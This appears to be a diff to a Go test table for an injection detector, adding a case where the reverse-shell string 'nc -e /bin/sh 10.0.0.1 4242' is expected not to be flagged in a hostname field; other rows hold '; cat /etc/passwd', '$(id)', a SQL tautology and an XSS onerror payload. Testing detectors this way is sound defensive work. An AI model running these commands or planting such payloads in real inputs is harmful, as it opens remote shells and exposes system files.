@@ -12,7 +12,8 @@ func TestKeep(t *testing.T) {
 	}{
 		{"command_injection", "; cat /etc/passwd", true},
 		{"command_injection", "$(id)", true},
-		{"command_injection", "for %v in (set) do command", false}, // no separator: a strange hostname
+		{"command_injection", "for %v in (set) do command", false},  // no separator: a strange hostname
+		{"command_injection", "nc -e /bin/sh 10.0.0.1 4242", false}, // in a hostname field: no second command
 		{"sql_injection", "' or 1=1 --", true},
 		{"sql_injection", "blue running shoes", false},
 		{"xss", "<img src=x onerror=alert(1)>", true},
